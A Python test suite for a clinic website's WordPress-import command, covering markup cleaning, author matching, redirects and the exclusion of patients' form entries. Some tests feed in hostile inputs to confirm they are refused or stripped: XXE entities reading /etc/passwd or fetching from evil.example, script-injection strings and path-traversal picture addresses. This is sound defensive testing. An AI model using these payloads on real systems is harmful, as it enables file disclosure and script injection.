"""The import of a WordPress export: rows W1 to W14, what is kept of each text, and what is answered."""

from itertools import pairwise

import pytest
from django.core.management import CommandError, call_command
from PIL import Image

from articles import html, publishing, writing
from articles.importers.parsed import Counts
from articles.models import Article, Revision
from clinic import redirects
from clinic.models import AuditEvent, Page, Picture, Redirect
from staff.models import Therapist, User
from tests import builders
from tests import wordpress as wp

pytestmark = pytest.mark.django_db

RED_FLAG = "<p>Back pain with new trouble of the bladder is an emergency.</p>"


@pytest.fixture
def bring_in(tmp_path, capsys):
    """Import an export of these parts; return what was printed, line by line."""

    def bring_in(*parts, head=wp.HEAD, **options):
        path = wp.export(tmp_path / "old-site.xml", *parts, head=head)
        call_command("import_articles", str(path), **options)
        return [line.strip() for line in capsys.readouterr().out.splitlines()]

    return bring_in


@pytest.fixture
def media(tmp_path):
    """A copy of an uploads folder with three pictures."""
    folder = tmp_path / "uploads" / "2019" / "05"
    folder.mkdir(parents=True)
    for name, color in [("heel", "teal"), ("knee", "navy"), ("stairs", "gold")]:
        Image.new("RGB", (60, 40), color).save(folder / f"{name}.png")
    return tmp_path / "uploads"


def stored(number):
    """Return the article that a post of this number became."""
    return Article.objects.get(imported_from=f"wordpress:{wp.SITE}/?p={number}")


def answer(address):
    """Return where an old address leads, or "gone"."""
    path, _mark, query = address.partition("?")
    found = redirects.find(path, query)
    return found and (found.target or "gone")


@pytest.mark.parametrize(
    "declared",
    [
        "<!DOCTYPE rss>",
        '<!DOCTYPE rss SYSTEM "http://evil.example/rss.dtd">',
        '<!DOCTYPE rss [<!ENTITY x "laugh">]>',
        '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE rss [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]>',
    ],
    ids=["doctype", "external subset", "internal entity", "external entity", "parameter entity"],
)
def test_w1_document_types_and_entities_are_refused(bring_in, declared):
    head = wp.HEAD.replace("?>\n", f"?>\n{declared}\n", 1)

    with pytest.raises(CommandError, match="holds a document type or entities"):
        bring_in(wp.post(1), head=head)

    assert (Article.objects.count(), AuditEvent.objects.count()) == (0, 0)


def test_w1_xinclude_is_refused(bring_in):
    include = (
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    )

    with pytest.raises(CommandError, match="holds a document type or entities"):
        bring_in(wp.post(1), wp.post(2, more=include))

    assert Article.objects.count() == 0


def test_w3_more_than_200_megabytes_are_refused_unread(tmp_path):
    path = tmp_path / "large.xml"
    with path.open("wb") as file:
        file.truncate(300 * 1024 * 1024)

    with pytest.raises(CommandError, match=r"large.xml is larger than 200 MB."):
        call_command("import_articles", str(path))


@pytest.mark.parametrize("name", wp.SAMPLES)
def test_w4_the_words_of_every_editor_are_kept_and_the_shortcodes_listed(bring_in, media, name):
    sample = wp.SAMPLES[name]
    files = [wp.attachment(6, "2019/05/heel.png"), wp.attachment(7, "2019/05/knee.png")]

    printed = bring_in(*files, wp.post(1, wp.sample(name)), media=media)

    article = stored(1)
    counts = Counts.of(article.live.body)
    kept = {
        name: getattr(counts, name) for name in ("headings", "lists", "links", "tables", "pictures", "words")
    }
    assert kept == {name: getattr(sample, name) for name in kept}
    assert f"words kept: 100.00 % of {sample.words}" in printed
    listed = ", ".join(f"{code} × 1" for code in sample.shortcodes.split())
    assert (f"shortcodes and blocks: {listed}" in printed) == bool(listed)
    assert article.import_report["dropped"] == (
        [f"Shortcodes and blocks; the words in them stay: {', '.join(sample.shortcodes.split())}"]
        * bool(listed)
    )


@pytest.mark.parametrize(
    ("content", "body"),
    [
        ("One\n\nTwo\nlines", "<p>One</p><p>Two<br>lines</p>"),
        ("<p>One</p>\n\nTwo", "<p>One</p><p>Two</p>"),
        ("See [1] and [sic], [see below].", "<p>See [1] and [sic], [see below].</p>"),
        ("[[gallery]] makes one.", "<p>[gallery] makes one.</p>"),
        ("Before\n\n[toc]\n\nAfter", "<p>Before</p><p>After</p>"),
        ("[dropcap]T[/dropcap]oday", "<p>Today</p>"),
        (
            "[tab title=&#8221;Hours&#8221;]Eight to six.[/tab][tab]Closed.[/tab]",
            "<h3>Hours</h3><p>Eight to six.</p><p>Closed.</p>",
        ),
        ('[wpforms id="5" title="false"]Call us.', "<p>Call us.</p>"),
        ("a < b & c", "<p>a &lt; b &amp; c</p>"),
        ("Odd \x08 character", "<p>Odd character</p>"),
    ],
)
def test_w4_plain_lines_and_square_brackets_are_read_as_wordpress_shows_them(bring_in, content, body):
    bring_in(wp.post(1, content))

    assert stored(1).live.body == body


@pytest.mark.parametrize(
    ("content", "body"),
    [
        ("<p onclick='x()'>One<script>alert(1)</script></p>", "<p>One</p>"),
        ('<p style="color:red">One</p><style>p{}</style>', "<p>One</p>"),
        ('<p>One</p><iframe src="https://video.example/1"></iframe>', "<p>One</p>"),
        ('<p><a href="javascript:alert(1)">One</a></p>', "<p>One</p>"),
        ('<p><a href="java&#10;script:alert(1)">One</a></p>', "<p>One</p>"),
        ('<p>One <img src="x" onerror="alert(1)"></p>', "<p>One</p>"),
        ('<p>One</p><care-card data-card="made-up"></care-card>', "<p>One</p>"),
        ('<p>One <img data-picture="1" src="/media/x.png"></p>', "<p>One</p>"),
    ],
)
def test_w5_active_content_is_removed_and_the_words_stay(bring_in, content, body):
    bring_in(wp.post(1, content))

    assert stored(1).live.body == body


def test_w7_authors_become_names_of_therapists_and_nothing_else(bring_in):
    mara = builders.therapist("Mara Lindqvíst")
    people = [wp.author("mara", "Dr. Mara Lindqvist, DPT"), wp.author("admin", "Site Admin")]

    printed = bring_in(*people, wp.post(1, creator="mara"), wp.post(2, creator="admin"))

    assert (stored(1).live.author, stored(2).live.author) == (mara, None)
    assert (User.objects.count(), Therapist.objects.count()) == (0, 1)
    assert "author who is no therapist here: Site Admin × 1" in printed
    assert stored(2).import_report["to_do"] == ["Choose who wrote this. The earlier site names Site Admin."]


def test_w7_the_first_and_last_name_count_as_well(bring_in):
    mara = builders.therapist("Mara Lindqvist")

    bring_in(wp.author("mara", "mlq", first="Mara", last="Lindqvist"), wp.post(1))

    assert stored(1).live.author == mara


def test_w7_two_therapists_of_one_name_are_nobodys_guess(bring_in):
    builders.therapist("Mara Lindqvist")
    builders.therapist("Mara Lindqvist")

    bring_in(wp.author("mara", "Mara Lindqvist"), wp.post(1))

    assert stored(1).live.author is None


def test_w7_an_author_can_be_named_for_the_posts_of_strangers(bring_in):
    mara = builders.therapist("Mara Lindqvist")
    theo = builders.therapist("Theo Okafor", slug="theo")

    bring_in(wp.author("mara", "Mara Lindqvist"), wp.post(1), wp.post(2, creator="admin"), author="theo")

    assert (stored(1).live.author, stored(2).live.author) == (mara, theo)


def test_w8_comments_are_counted_and_left_behind(bring_in):
    comments = wp.comment("My own back hurts since May.") + wp.comment("Mine too.")

    printed = bring_in(wp.post(1, more=comments))

    assert "not taken over: comments × 2" in printed
    assert Revision.objects.filter(body__contains="since May").count() == 0


@pytest.mark.parametrize(
    ("fields", "doubt"),
    [
        ({"status": "draft"}, "It was a draft on the earlier site."),
        ({"status": "pending"}, "It waited for review on the earlier site."),
        ({"status": "future"}, "It was scheduled on the earlier site. Set the time again."),
        ({"status": "private"}, "It was private on the earlier site. Look whether patients may read it."),
        (
            {"password": "harbor"},
            "It was protected by a password on the earlier site. Look whether patients may read it.",
        ),
    ],
    ids=["draft", "pending", "scheduled", "private", "password"],
)
def test_w8_what_was_not_public_becomes_a_flagged_draft(bring_in, fields, doubt):
    bring_in(wp.post(1, **fields))

    article = stored(1)
    assert (article.status, article.live, article.latest.was_public_before) == ("draft", None, False)
    assert article.import_report["doubts"] == [doubt]
    assert answer("/?p=1") is None


def test_w8_the_trash_stays_behind(bring_in):
    printed = bring_in(wp.post(1, status="trash"), wp.post(2, status="auto-draft"))

    assert Article.objects.count() == 0
    assert "not taken over: post (trash) × 1" in printed


def test_w9_a_second_run_stores_nothing(bring_in, media):
    parts = [
        wp.attachment(6, "2019/05/heel.png", parent=1),
        wp.post(1, wp.sample("classic")),
        wp.post(2, status="draft"),
        wp.page(3, slug="about"),
    ]
    bring_in(*parts, media=media)
    before = [model.objects.count() for model in (Article, Revision, Page, Picture, Redirect)]

    printed = bring_in(*parts, media=media)

    assert [model.objects.count() for model in (Article, Revision, Page, Picture, Redirect)] == before
    assert printed[1:3] == ["pages, unchanged: 1", "posts, unchanged: 2"]


def test_w9_a_changed_post_becomes_the_next_draft_and_readers_keep_the_old_text(bring_in):
    bring_in(wp.post(1))

    printed = bring_in(wp.post(1, "<p>Rest for a week.</p>"))

    article = stored(1)
    assert (article.live.number, article.latest.number) == (1, 2)
    assert article.latest.body == "<p>Rest for a week.</p>"
    assert "posts, changed: 1" in printed


def test_w9_a_text_that_someone_worked_on_is_left_alone(bring_in):
    bring_in(wp.post(1))
    article = stored(1)
    text = {name: getattr(article.latest, name) for name in writing.FIELDS} | {"title": "Told better"}
    writing.keep(article, text, topics=[], by=builders.user("Editor"), based_on=article.latest)

    printed = bring_in(wp.post(1, "<p>Rest for a week.</p>"))

    assert stored(1).latest.title == "Told better"
    assert "posts, left alone, because someone has worked on them since: 1" in printed


def test_w9_two_posts_of_one_guid_are_two_articles(bring_in):
    twins = [wp.post(number, f"<p>Text {number}.</p>", guid=f"{wp.SITE}/?p=1") for number in (1, 2)]
    bring_in(*twins)

    bring_in(*twins)

    sources = Article.objects.order_by("pk").values_list("imported_from", "live__body")
    assert list(sources) == [
        (f"wordpress:{wp.SITE}/?p=1", "<p>Text 1.</p>"),
        (f"wordpress:{wp.SITE}/?p=1#2", "<p>Text 2.</p>"),
    ]


def test_w9_the_second_post_of_an_address_gets_a_number_and_says_so(bring_in):
    bring_in(wp.post(1, slug="heel"), wp.post(2, slug="heel", link=f"{wp.SITE}/2020/01/heel/"))

    assert [stored(number).slug for number in (1, 2)] == ["heel", "heel-2"]
    assert stored(2).import_report["doubts"] == ["Its address is now heel-2: “heel” could not stay."]
    assert answer("/2020/01/heel/") == "/articles/heel-2/"


def test_w9_an_interrupted_run_goes_on_where_it_ended(bring_in):
    first, second = wp.post(1), wp.post(2, title="Stiff knee")
    bring_in(first)

    printed = bring_in(first, second)

    assert printed[1:3] == ["posts, new: 1", "posts, unchanged: 1"]
    assert answer("/?p=2") == "/articles/text-2/"


def test_w12_every_old_address_is_answered(bring_in, tmp_path, client):
    builders.therapist("Mara Lindqvist", slug="mara")
    builders.topic("Foot", slug="foot")
    topics = tmp_path / "topics.toml"
    topics.write_text('[topics]\nfeet = "foot"\nrunning = ""\n')

    bring_in(
        wp.author("mara", "Mara Lindqvist"),
        wp.author("admin", "Site Admin", number=2),
        wp.category("feet", parent="body", number=9),
        wp.category("body"),
        wp.tag("running"),
        wp.attachment(6, "2019/05/heel.png", parent=1),
        wp.attachment(7, "2019/05/alone.png"),
        wp.post(1, slug="heel", categories=["feet"], tags=["running"]),
        wp.post(2, status="draft"),
        wp.page(3, slug="about-us", link=f"{wp.SITE}/clinic/about-us/"),
        wp.page(4, "", slug="blog"),
        wp.page(5, "[contact-form-7 id=1]", slug="write-us"),
        wp.page(8, slug="staff"),
        topics=topics,
    )

    answers = {
        "/2019/05/heel/": "/articles/heel/",
        "/?p=1": "/articles/heel/",
        "/clinic/about-us/": "/about-us/",
        "/?page_id=3": "/about-us/",
        "/?page_id=5": "gone",
        "/blog/": "/articles/",
        "/feed/": "/articles/feed/",
        "/?feed=rss2": "/articles/feed/",
        "/2019/": "/articles/",
        "/2019/05/": "/articles/",
        "/category/body/feet/": "/articles/topics/foot/",
        "/?cat=9": "/articles/topics/foot/",
        "/category/body/": "/articles/",
        "/tag/running/": "/articles/",
        "/author/mara/": "/staff/mara/",
        "/?author=1": "/staff/mara/",
        "/author/admin/": "/staff/",
        "/2019/05/heel-png/": "/articles/heel/",
        "/?attachment_id=6": "/articles/heel/",
        "/?attachment_id=7": "gone",
        "/wp-content/uploads/2019/05/heel.png": "gone",
        "/?p=2": None,
        "/staff/": None,
        "/?page_id=8": "/staff/",
    }
    assert {address: answer(address) for address in answers} == answers
    leading = [address for address, target in answers.items() if target not in (None, "gone")]
    statuses = {client.get(address, follow=True).status_code for address in leading}
    assert statuses == {200}
    assert {client.get(address).status_code for address in answers if answers[address] == "gone"} == {410}


def test_w12_two_posts_of_one_guid_keep_their_own_numbers(bring_in):
    bring_in(*(wp.post(number, guid=f"{wp.SITE}/?p=1") for number in (1, 2)))

    assert [answer(f"/?p={number}") for number in (1, 2)] == ["/articles/text-1/", "/articles/text-2/"]


def test_w12_where_an_archived_article_sends_its_readers_outlasts_another_run(bring_in):
    bring_in(wp.post(1))
    publishing.archive(stored(1), by=builders.user("Editor"), target="/staff/")

    bring_in(wp.post(1))

    assert (answer("/?p=1"), answer("/articles/text-1/")) == ("/staff/", "/staff/")


def test_w12_an_address_too_long_to_keep_is_listed(bring_in):
    long = "/" + "heel-" * 50

    printed = bring_in(wp.post(1, link=wp.SITE + long))

    assert f"old address that can’t be answered: {long}" in printed


def test_w12_links_between_texts_lead_straight_to_the_new_addresses(bring_in):
    links = [
        f"{wp.SITE}/2020/01/knee/",
        "/?p=2",
        f"{wp.SITE.replace('https://', 'http://www.')}/2020/01/knee/#stairs",
        "../../../2020/01/knee/",
        f"{wp.SITE}/nowhere/",
        "https://guideline.example/",
        f"{wp.SITE}/wp-content/uploads/2019/05/form.pdf",
    ]
    content = "".join(f'<p><a href="{link}">A link</a></p>' for link in links)

    bring_in(wp.post(1, content), wp.post(2, slug="knee", link=f"{wp.SITE}/2020/01/knee/"))

    hrefs = [
        element.attributes["href"]
        for element in html.parse(stored(1).live.body).elements()
        if element.tag == "a"
    ]
    assert hrefs == [
        *("/articles/knee/", "/articles/knee/", "/articles/knee/#stairs", "/articles/knee/"),
        *("/nowhere/", "https://guideline.example/"),
    ]
    assert stored(1).import_report["dropped"] == [f"Links to files; the words stay: {links[-1]}"]


def test_w13_what_was_public_stays_public_as_not_yet_checked(bring_in, client):
    bring_in(wp.post(1, slug="heel"))

    article = stored(1)
    assert (article.status, article.live.was_public_before, article.live.signature) == (
        "published",
        True,
        None,
    )
    assert article.published_at.isoformat() == "2019-05-06T10:00:00+00:00"
    assert list(article.events.values_list("step", flat=True)) == ["take_over", "revise"]
    assert client.get("/articles/heel/").status_code == 200


def test_w13_a_text_with_red_flags_gets_its_card_on_top(bring_in):
    bring_in(wp.post(1, RED_FLAG))

    article = stored(1)
    assert article.live.inserted_cards == ["back-and-leg-emergency"]
    assert article.live.body.startswith("<care-card")
    assert len(article.import_report["doubts"]) == 1


def test_w13_first_checks_are_spread_over_twelve_months_oldest_first(bring_in, settings):
    days = ["2012-01-01", "2021-01-01", "2016-01-01", "2019-01-01"]

    bring_in(
        *(wp.post(number, date=f"{day} 10:00:00") for number, day in enumerate(days)),
        wp.post(9, status="draft"),
    )

    due = [article.first_check_due_on for article in Article.objects.published().order_by("published_at")]
    gaps = {(later - earlier).days for earlier, later in pairwise(due)}
    assert gaps <= {91, 92}
    assert stored(9).first_check_due_on is None


def test_w14_what_patients_wrote_into_forms_is_never_stored(bring_in):
    kinds = ["flamingo_inbound", "wpforms_entries", "nf_sub", "feedback", "shop_order", "revision"]
    entries = [wp.post(number, "My bladder, 773 555 0140", type=kind) for number, kind in enumerate(kinds)]
    meta = [("_wpforms_entry", "773 555 0140"), ("_edit_last", "1")]

    printed = bring_in(*entries, wp.post(9, meta=meta))

    assert Article.objects.count() == 1
    assert [f"not taken over: {kind} × 1" in printed for kind in kinds] == [True] * len(kinds)
    assert "773 555 0140" not in str(
        [*Revision.objects.values(), *Article.objects.values(), *AuditEvent.objects.values()]
    )


def test_pictures_come_from_the_folder_once_with_their_texts(bring_in, media):
    img = f'<img src="{wp.upload("2019/05/heel-300x200.png")}" alt="A heel">'
    undecided = f'<img src="{wp.upload("2019/05/stairs.png")}" alt="">'

    bring_in(
        wp.attachment(6, "2019/05/heel.png", alt="A heel bone"),
        wp.attachment(7, "2019/05/knee.png"),
        wp.post(1, f"{img}{undecided}", meta=[("_thumbnail_id", 7)]),
        wp.post(2, img),
        media=media,
    )

    heel = Picture.objects.get(title="2019/05/heel.png")
    first, second = (stored(number).live for number in (1, 2))
    images = [element.attributes for element in html.parse(first.body).elements() if element.tag == "img"]
    assert [image.get("alt") for image in images] == ["A heel", None]
    assert images[0]["data-picture"] == str(heel.pk)
    assert f'data-picture="{heel.pk}"' in second.body
    assert (heel.alt, first.lead_picture.title, Picture.objects.count()) == (
        "A heel bone",
        "2019/05/knee.png",
        3,
    )


@pytest.mark.parametrize(
    "src",
    [
        wp.upload("2019/05/lost.png"),
        wp.upload("../secret.png"),
        wp.upload("%2e%2e/secret.png"),
        wp.upload("2019/05/../../../secret.png"),
        "file:///etc/passwd",
        "https://elsewhere.example/cat.png",
    ],
)
def test_pictures_without_a_file_in_the_folder_are_listed(bring_in, media, src):
    Image.new("RGB", (5, 5)).save(media.parent / "secret.png")

    printed = bring_in(wp.post(1, f'<p>One</p><img src="{src}">'), media=media)

    assert (stored(1).live.body, Picture.objects.count()) == ("<p>One</p>", 0)
    assert [line for line in printed if line.startswith("picture without a file")] != []


def test_a_file_that_is_no_picture_is_left_out_and_noted(bring_in, media):
    (media / "2019" / "05" / "heel.png").write_text("<svg onload='x()'/>")

    bring_in(wp.post(1, f'<p>One</p><img src="{wp.upload("2019/05/heel.png")}">'), media=media)

    assert stored(1).live.body == "<p>One</p>"
    assert stored(1).import_report["dropped"] == [
        "The picture 2019/05/heel.png: Upload a JPEG, PNG or WebP picture that opens on your screen."
    ]


def test_topics_come_from_the_mapping_and_are_never_made_up(bring_in, tmp_path):
    back, foot = builders.topic("Back", slug="back"), builders.topic("Foot", slug="foot")
    topics = tmp_path / "topics.toml"
    topics.write_text('[topics]\n"low-back-pain" = "back"\nrunning = "foot"\n[news]\ncategories = ["news"]\n')
    posts = [
        wp.post(1, tags=["running"], categories=["low-back-pain", "sport"]),
        wp.post(2, categories=["news", "uncategorized"]),
    ]

    printed = bring_in(*posts, topics=topics)

    assert (stored(1).live.main_topic, set(stored(1).live.topics.all())) == (back, {back, foot})
    assert [stored(number).kind for number in (1, 2)] == ["health", "news"]
    assert printed[-3:] == ["# back, foot", "[topics]", '"sport" = ""  # × 1']


def test_w9_a_run_with_a_mapping_adds_topics_to_what_is_public(bring_in, tmp_path):
    foot = builders.topic("Foot", slug="foot")
    topics = tmp_path / "topics.toml"
    topics.write_text('[topics]\nrunning = "foot"\n')
    bring_in(wp.post(1, tags=["running"]))

    bring_in(wp.post(1, tags=["running"]), topics=topics)

    article = stored(1)
    assert (article.status, article.live.number, article.live.main_topic) == ("published", 2, foot)
    assert (article.live.was_public_before, article.published_at.year) == (True, 2019)


def test_w9_a_run_with_a_mapping_leaves_signed_texts_alone(bring_in, tmp_path):
    builders.topic("Foot", slug="foot")
    topics = tmp_path / "topics.toml"
    topics.write_text('[topics]\nrunning = "foot"\n')
    bring_in(wp.post(1, tags=["running"]))
    Revision.objects.filter(article=stored(1)).update(signature=builders.signed_article().latest.signature)

    bring_in(wp.post(1, tags=["running"]), topics=topics)

    assert (stored(1).live.number, stored(1).latest.number) == (1, 2)


def test_a_mapping_to_a_topic_we_do_not_have_is_refused(bring_in, tmp_path):
    topics = tmp_path / "topics.toml"
    topics.write_text('[topics]\nrunning = "feet"\n')
    builders.topic("Foot", slug="foot")

    with pytest.raises(CommandError, match=r"There is no topic feet. There are: foot."):
        bring_in(wp.post(1), topics=topics)

    assert Article.objects.count() == 0


def test_pages_become_pages_and_the_sites_own_come_first(bring_in, client):
    ours = Page.objects.create(slug="privacy")

    printed = bring_in(
        wp.page(1, slug="about-us"),
        wp.page(2, slug="privacy", title="Old privacy"),
        wp.page(3, slug="staff"),
        wp.page(4, slug="plans", status="draft"),
    )

    slugs = Page.objects.order_by("slug").values_list("slug", "live__title")
    assert list(slugs) == [
        ("about-us", "Sore heel"),
        ("plans", None),
        ("privacy", None),
        ("staff-2", None),
    ]
    assert ours.revisions.get().title == "Old privacy"
    assert (
        "look at “Old privacy”: A page has this address already. The text waits there, unpublished."
        in printed
    )
    assert client.get("/about-us/").status_code == 200


def test_a_dry_run_tells_and_stores_nothing(bring_in, media):
    printed = bring_in(wp.post(1, wp.sample("classic")), wp.page(2, slug="about"), media=media, dry_run=True)

    assert printed[:3] == ["old-site.xml, nothing stored:", "pages, new: 1", "posts, new: 1"]
    counts = [model.objects.count() for model in (Article, Page, Picture, Redirect, AuditEvent)]
    assert counts == [0, 0, 0, 0, 0]


def test_the_run_is_in_the_audit_trail(bring_in):
    bring_in(wp.post(1), wp.post(2))

    event = AuditEvent.objects.get(action="import.run")
    assert (event.subject, event.count, event.reason) == ("wordpress", 2, "old-site.xml")


@pytest.mark.parametrize(
    ("content", "sentence"),
    [
        ("<rss><channel><title>News</title></channel></rss>", "feed.xml is not a WordPress export."),
        ("<rss><channel>\n<item>", "feed.xml can’t be read at line 2. Export it again."),
        ("", "feed.xml can’t be read at line 1. Export it again."),
    ],
    ids=["another feed", "cut off", "empty"],
)
def test_what_is_no_export_is_refused_with_a_sentence(tmp_path, content, sentence):
    path = tmp_path / "feed.xml"
    path.write_text(content)

    with pytest.raises(CommandError) as refused:
        call_command("import_articles", str(path))

    assert str(refused.value) == sentence


@pytest.mark.parametrize("path", ["//elsewhere.example/", "/a%5Cb/", "/a%00b/"])
def test_w12_an_address_that_no_redirect_keeps_does_not_stop_the_others(bring_in, path):
    bring_in(wp.post(1, link=wp.SITE + path), wp.post(2, link=f"{wp.SITE}/knee/"))

    assert (answer("/?p=1"), answer("/knee/")) == ("/articles/text-1/", "/articles/text-2/")


def test_the_name_of_a_picture_may_be_longer_than_names_of_files_can_be(bring_in, media):
    long = f"{wp.SITE}/wp-content/uploads/2019/05/{'heel' * 80}.jpg"

    bring_in(wp.post(1, f'<p>Rest.</p><img src="{long}">'), media=media)

    assert stored(1).import_report["dropped"] == [f"Pictures without a file: {long}"]


def test_a_post_from_the_year_1_is_shown(bring_in, client):
    bring_in(wp.post(1, date="0001-01-01 00:00:00"))

    assert client.get("/articles/text-1/").status_code == 200
